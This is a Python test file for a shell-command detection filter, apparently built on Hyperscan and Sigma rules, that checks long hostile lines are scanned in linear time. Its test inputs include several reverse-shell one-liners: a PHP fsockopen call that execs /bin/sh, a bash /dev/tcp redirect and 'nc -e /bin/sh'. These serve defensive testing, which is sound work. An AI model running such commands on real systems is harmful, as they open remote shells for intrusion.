"""Long and hostile lines cost time linear in their length.

A pattern that fires every few bytes of a long line used to call back into Python once per match,
and each hit looked back to its line's start from scratch: ~18 s per 1 MiB event. A block whose
line-database hits pass 256 + 1/32 per byte now stops its scan and is rescanned a line at a time
with the single-match twin of the line database, so a line calls back at most once per pattern.

The default run counts callbacks (no clock). The timed runs are behind the `slow` marker:

    python -m pytest tests/reliability/test_long_lines.py -m slow -q -s

They print CPU ms per 1 MiB and 2 MiB line per shape and rule set, with the raw-scan floor (one
Hyperscan scan of the same bytes with a callback that does nothing).
"""

from __future__ import annotations

import dataclasses
import io
import json
import time
from pathlib import Path
from typing import Any

import hyperscan as hs
import pytest

from shellsieve.cli import build
from shellsieve.compile.ruleset import Ruleset
from shellsieve.run.loop import run_filter
from shellsieve.run.match import BlockMatcher
from shellsieve.run.stats import Stats
from shellsieve.settings import Settings

from conftest import PATTERNS, PHP_FSOCKOPEN, RULESETS

SHORT_RULE = """\
title: a short literal anywhere in a command line
id: 0f0f0f0f-0000-4000-8000-000000000001
status: test
logsource: {category: process_creation, product: linux}
detection:
  sel: {CommandLine|contains: 'abc '}
  condition: sel
level: high
"""


class _Counting:
    """A database whose scans count the callbacks Hyperscan makes into Python."""

    def __init__(self, db: hs.Database) -> None:
        self.db = db
        self.calls = 0

    def scan(self, data: bytes, match_event_handler: Any, context: Any) -> Any:
        def counted(*args: Any) -> Any:
            self.calls += 1
            return match_event_handler(*args)

        return self.db.scan(data, match_event_handler=counted, context=context)


class _Log:
    def __getattr__(self, name: str) -> Any:
        return lambda *a, **k: None


def _filter(rs: Ruleset, data: bytes) -> tuple[bytes, Stats]:
    out = io.BytesIO()
    stats = run_filter(rs, Settings(stats_interval_s=0, max_line_bytes=1 << 24), io.BytesIO(data), out, _Log())
    return out.getvalue(), stats


def _event(command_line: str, **extra: Any) -> bytes:
    doc = {"event": {"category": ["process"], "type": ["start"]}, "host": {"os": {"type": "linux"}},
           "process": {"command_line": command_line, "name": command_line.split(" ", 1)[0]}, **extra}
    return json.dumps(doc).encode()


@pytest.fixture(scope="module")
def short_rules(tmp_path_factory: pytest.TempPathFactory) -> Ruleset:
    folder = tmp_path_factory.mktemp("rules")
    (folder / "short.yml").write_text(SHORT_RULE)
    _, rs, diags = build([PATTERNS, folder])
    assert not [d for d in diags if d.severity == "error"]
    return rs


class TestCallbacks:
    def test_a_literal_at_every_few_bytes_calls_back_at_most_once_per_pattern(self, short_rules: Ruleset) -> None:
        """A 1 MiB command line of a rule's short literal makes a bounded number of callbacks, and alerts."""
        main, single = _Counting(short_rules.database), _Counting(short_rules.single_line_database)
        rs = dataclasses.replace(short_rules, database=main, single_line_database=single)
        line = _event("abc " * (1 << 18)) + b"\n"
        out, stats = _filter(rs, line)
        # the block scan stops past its bound; the rescan reports each pattern once
        assert main.calls <= 256 + len(line) // 32 + 1
        assert single.calls <= short_rules.pattern_count
        assert stats.alerts == 1 and b'"0f0f0f0f-0000-4000-8000-000000000001"' in out
        assert out.count(b"\n") == 1

    def test_the_rescan_finds_what_the_block_scan_finds(self, short_rules: Ruleset) -> None:
        """Ordinary lines beside a hostile one are matched exactly as without it (same output bytes)."""
        examples = (PATTERNS.parent / "examples" / "events.ndjson").read_bytes()
        hostile = _event("abc " * (1 << 14)) + b"\n"
        alone = BlockMatcher(short_rules, Stats()).process(examples)
        mixed = BlockMatcher(short_rules, Stats()).process(examples + hostile + examples)
        first, rest = mixed[: len(alone)], mixed[len(alone):]
        assert first == alone
        assert rest.split(b"\n", 1)[1] == alone  # the second copy: sequences were already open, same here
        assert PHP_FSOCKOPEN.encode() in alone

    def test_a_keyed_literal_past_its_first_place_still_makes_a_candidate(self, shipped: Ruleset) -> None:
        """In a rescanned line a keyed pattern reports once: a first place outside its key does not hide
        a later one under it (the line stays a candidate; the confirm decides)."""
        php = "php -r '$s=fsockopen(\"10.0.0.1\",9001);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"
        # `fsockopen(` counts under process.command_line only; here it is first (and dense enough
        # to force the rescan) in a field before it
        line = b'{"note":"' + b"fsockopen( " * (1 << 14) + b'",' + _event(php)[1:] + b"\n"
        out, stats = _filter(shipped, line)
        assert stats.alerts == 1 and PHP_FSOCKOPEN.encode() in out


# -- timed, on demand ---------------------------------------------------------------------------

def _shapes() -> dict[str, Any]:
    def raw(lit: bytes) -> Any:
        return lambda n: lit * (n // len(lit))

    def ecs(lit: str) -> Any:
        return lambda n: _event("bash -c " + (lit + " ") * (n // (len(lit) + 1)), parent={"name": "apache2"})

    return {
        "text of 'a'": raw(b"a"),
        "words": raw(b"word "),
        "json escapes": lambda n: _event("x")[:-3] + b"\\u0041" * (n // 6) + b'"}}',
        "fsockopen": ecs("php -r fsockopen"), "pty.spawn": ecs("socket.socket pty.spawn dup2"),
        "/dev/tcp/": ecs("bash -i >& /dev/tcp/1.2.3.4/9001"), "bash": raw(b'"bash",'),
        "/usr/bin/": raw(b"/usr/bin/"), "w3wp.exe": ecs("w3wp.exe perl --help"), "nc -e": ecs("nc -e /bin/sh"),
    }


_TEXT_SHAPES = {"text of 'a'", "words", "bash", "/usr/bin/"}


def _cpu(rs: Ruleset, data: bytes) -> float:
    best = float("inf")
    for _ in range(5):
        t = time.process_time()
        _filter(rs, data)
        best = min(best, time.process_time() - t)
    return best


def _floor(rs: Ruleset, data: bytes) -> float:
    t = time.process_time()
    rs.database.scan(data, match_event_handler=lambda *a: None, context=None)
    return time.process_time() - t


@pytest.mark.slow
@pytest.mark.parametrize("rules", ["shipped", "public"])
def test_time_is_linear(rules: str, capsys: pytest.CaptureFixture[str]) -> None:
    """2x the input costs at most 2.5x the time; a JSON event with the shipped rules under 50 ms per MiB."""
    paths = [PATTERNS] if rules == "shipped" else [RULESETS / "sigma", RULESETS / "elastic" / "linux"]
    if rules == "public" and not RULESETS.is_dir():
        pytest.skip("the public rulesets are not beside the project")
    _, rs, _ = build(paths)
    base = _cpu(rs, b"")
    rows = []
    for name, make in _shapes().items():
        one, two = (make(n) + b"\n" for n in (1 << 20, 1 << 21))
        t1, t2 = _cpu(rs, one) - base, _cpu(rs, two) - base
        rows.append((name, t1, t2, _floor(rs, one)))
    with capsys.disabled():
        for name, t1, t2, floor in rows:
            print(f"\n{rules:8} {name:14} 1 MiB {t1 * 1e3:7.1f} ms  2 MiB {t2 * 1e3:7.1f} ms  "
                  f"x{t2 / max(t1, 1e-4):.2f}  raw-scan floor {floor * 1e3:6.1f} ms", end="")
    for name, t1, t2, floor in rows:
        assert t2 <= 2.5 * max(t1, 0.005), name  # below 5 ms the clock's noise is the ratio
        # Under 50 ms per MiB with the shipped rules for JSON events. A 1 MiB text line is split
        # into argv by Python's re, word by word (~50-150 ms per MiB of short or quoted words); with
        # the public rules one raw Hyperscan scan of such lines is itself past 50 ms (the floor).
        if rules == "shipped" and name not in _TEXT_SHAPES:
            assert t1 < 0.050, name
